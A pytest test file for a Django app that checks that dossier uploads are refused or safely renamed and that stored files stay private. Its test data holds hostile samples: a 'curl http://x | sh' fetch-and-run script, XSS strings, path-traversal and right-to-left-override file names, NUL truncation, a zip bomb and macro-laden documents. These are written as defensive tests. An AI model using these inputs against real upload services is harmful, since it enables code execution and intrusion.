"""Dossier uploads refused by content, size and name, with nothing stored; files kept private.

Uploads go as raw multipart bodies, so the name arrives exactly as a hostile client would
send it (a browser or the test client would already have cut the folders away).
"""

import io
import unicodedata
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import get_resolver, reverse
from django.urls.resolvers import URLPattern, URLResolver
from django.views.static import serve

from approvals.models import Attachment
from approvals.services.dossiers import attachment_add
from tests.approvals.nomination_helpers import nominate

pytestmark = pytest.mark.django_db

LIMIT = 100_000  # bytes, for these tests
PDF = b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 32


def _zip(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


DOCX = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"}
XLSX = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}
FORMAT = "Chỉ nhận tệp PDF, DOCX, XLSX, JPEG hoặc PNG"
MACRO = "có chứa macro"
BOMB = "khi giải nén lớn bất thường"
PROGRAM = "của tệp chương trình"
SIZE = "vượt quá giới hạn"

REFUSED = [
    # (case, file name as sent, content, what the form says)
    ("elf-as-pdf", "bao-cao.pdf", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 64, FORMAT),
    ("pe-as-pdf", "bao-cao.pdf", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 64, FORMAT),
    ("script-as-pdf", "bao-cao.pdf", b"#!/bin/sh\ncurl http://x | sh\n", FORMAT),
    ("html-as-pdf", "bao-cao.pdf", b"<!DOCTYPE html><script>alert(1)</script>", FORMAT),
    ("zip-as-docx", "bao-cao.docx", _zip({"payload.txt": b"hello"}), FORMAT),
    ("broken-zip", "bao-cao.docx", b"PK\x03\x04" + b"\x00" * 40, FORMAT),
    ("docm-as-docx", "bao-cao.docx", _zip({**DOCX, "word/vbaProject.bin": b"\xd0\xcf"}), MACRO),
    ("xlsm-as-xlsx", "bang.xlsx", _zip({**XLSX, "xl/vbaProject.bin": b"\xd0\xcf"}), MACRO),
    # 3 MB of spaces deflate to a few KB: far more than ten times the limit once unpacked
    ("zip-bomb", "bao-cao.docx", _zip({**DOCX, "word/document.xml": b" " * 3_000_000}), BOMB),
    ("oversize", "bao-cao.pdf", PDF + b"0" * LIMIT, SIZE),
    # U+202E shows "report\u202efdp.exe" as "reportexe.pdf"; the control is dropped, the
    # name is then what it always was, a program's
    ("right-to-left-override", "report\u202efdp.exe", PDF, PROGRAM),
    # a NUL cuts the name short for C code: "evil.exe"
    ("nul-truncation", "evil.exe\x00.pdf", PDF, PROGRAM),
    ("double-extension", "to-trinh.pdf.js", PDF, PROGRAM),
]

ACCEPTED = [
    # (case, file name as sent, content, stored display name, stored type)
    ("traversal", "../../etc/passwd.pdf", PDF, "passwd.pdf", "application/pdf"),
    ("windows-traversal", "..\\..\\boot.ini.pdf", PDF, "boot.ini.pdf", "application/pdf"),
    ("reserved-device", "CON.pdf", PDF, "tai-lieu-CON.pdf", "application/pdf"),
    ("reserved-device-two-dots", "com1.tar.pdf", PDF, "tai-lieu-com1.tar.pdf", "application/pdf"),
    ("300-characters", "x" * 300 + ".pdf", PDF, "x" * 120 + ".pdf", "application/pdf"),
    ("markup", "<b onmouseover=alert(1)>ho so.pdf", PDF, "b_onmouseoveralert1ho_so.pdf", None),
    ("hidden-file", ".htaccess", PNG, "tai-lieu.png", "image/png"),
    ("nul-inside", "báo cáo\x00.pdf", PDF, "báo_cáo.pdf", "application/pdf"),
    (
        "decomposed-vietnamese",
        unicodedata.normalize("NFD", "Báo cáo thành tích Đợt 1.pdf"),
        PDF,
        "Báo_cáo_thành_tích_Đợt_1.pdf",
        "application/pdf",
    ),
    # declared PNG, content PDF: kept as the PDF it is, named and served as one
    ("pdf-named-png", "anh.png", PDF, "anh.pdf", "application/pdf"),
    ("docx-named-pdf", "bao-cao.pdf", _zip(DOCX), "bao-cao.docx", None),
    ("web-address", "baochinhphu.com.pdf", PDF, "baochinhphu.com.pdf", "application/pdf"),
]


@pytest.fixture(autouse=True)
def _limit(settings):
    settings.ATTACHMENT_MAX_BYTES = LIMIT


def _files(settings) -> list:
    return sorted(p for p in settings.MEDIA_ROOT.rglob("*") if p.is_file())


def _raw_upload(client, nomination, filename: str, content: bytes):
    """POST the file with its name exactly as given (UTF-8 in the part's header)."""
    boundary = "----tdkt-test-boundary"
    head = (
        f"--{boundary}\r\n"
        f'Content-Disposition: form-data; name="upload"; filename="{filename}"\r\n'
        "Content-Type: application/pdf\r\n\r\n"
    ).encode()
    body = head + content + f"\r\n--{boundary}--\r\n".encode()
    return client.post(
        reverse("attachment_upload", args=[nomination.pk]),
        data=body,
        content_type=f"multipart/form-data; boundary={boundary}",
    )


@pytest.mark.parametrize(
    ("filename", "content", "message"),
    [case[1:] for case in REFUSED],
    ids=[case[0] for case in REFUSED],
)
def test_a_dangerous_upload_is_refused_and_nothing_is_stored(
    filename, content, message, client_for, demo_user, settings
):
    nomination = nominate(demo_user)
    client = client_for("canbo.f3")
    files_before = _files(settings)
    response = _raw_upload(client, nomination, filename, content)
    assert response.status_code == 400
    page = response.content.decode()
    assert message in page
    assert 'class="error"' in page  # on the form, next to the field
    assert not Attachment.objects.exists()
    assert _files(settings) == files_before


@pytest.mark.parametrize(
    ("filename", "content", "stored_name", "content_type"),
    [case[1:] for case in ACCEPTED],
    ids=[case[0] for case in ACCEPTED],
)
def test_a_hostile_name_is_stored_as_a_safe_display_name(
    filename, content, stored_name, content_type, client_for, demo_user, settings
):
    nomination = nominate(demo_user)
    response = _raw_upload(client_for("canbo.f3"), nomination, filename, content)
    assert response.status_code == 302
    attachment = Attachment.objects.get()
    assert attachment.original_name == stored_name
    assert unicodedata.is_normalized("NFC", attachment.original_name)
    if content_type:
        assert attachment.content_type == content_type
    # on disk: a random token in the nomination's private folder, whatever the name said
    stored = settings.MEDIA_ROOT / attachment.file.name
    assert _files(settings) == [stored]
    assert stored.parent == settings.MEDIA_ROOT / "private" / "nominations" / str(nomination.pk)
    assert len(stored.stem) == 32 and stored.stem.isalnum()


@pytest.mark.parametrize(
    "filename", ["report\u202efdp.exe", "evil.exe\x00.pdf", "hồ sơ\u200b.pdf.vbs"]
)
def test_the_service_refuses_a_program_name_that_bypasses_the_form(filename, demo_user, settings):
    """Names with control characters reach the service intact when it is called directly."""
    nomination = nominate(demo_user)
    with pytest.raises(ValidationError) as refused:
        attachment_add(
            actor=demo_user("canbo.f3"),
            nomination=nomination,
            upload=SimpleUploadedFile(filename, PDF),
        )
    assert PROGRAM in str(refused.value)
    assert "\u202e" not in str(refused.value) and "\x00" not in str(refused.value)
    assert not Attachment.objects.exists() and _files(settings) == []


@pytest.fixture
def f3_attachment(client_for, demo_user):
    nomination = nominate(demo_user)
    assert _raw_upload(client_for("canbo.f3"), nomination, "bao-cao.pdf", PDF).status_code == 302
    return Attachment.objects.get()


def test_another_unit_cannot_download_a_dossier_file_by_guessing_its_url(
    f3_attachment, client, demo_user
):
    client.force_login(demo_user("canbo.qk3"))
    for pk in (f3_attachment.pk, f3_attachment.pk + 1, f3_attachment.pk - 1):
        assert client.get(reverse("attachment_download", args=[pk])).status_code == 404
    client.force_login(demo_user("canbo.f3"))
    response = client.get(reverse("attachment_download", args=[f3_attachment.pk]))
    assert response.status_code == 200 and b"".join(response.streaming_content) == PDF
    assert response["Content-Disposition"].startswith("attachment;")


def test_no_url_serves_the_media_folder(f3_attachment, client, demo_user, settings):
    for pattern in _patterns(get_resolver().url_patterns):
        assert pattern.callback is not serve, f"{pattern.pattern} serves files from disk"
    client.force_login(demo_user("canbo.f3"))  # even a reader of the nomination
    name = f3_attachment.file.name  # private/nominations/<id>/<token>.pdf
    for url in (
        f"/{name}",
        f"/media/{name}",
        f"{settings.STATIC_URL}{name}",
        f"/{settings.STATIC_URL}../var/media/{name}",
    ):
        assert client.get(url).status_code == 404, url


def _patterns(patterns):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from _patterns(pattern.url_patterns)
        elif isinstance(pattern, URLPattern):
            yield pattern
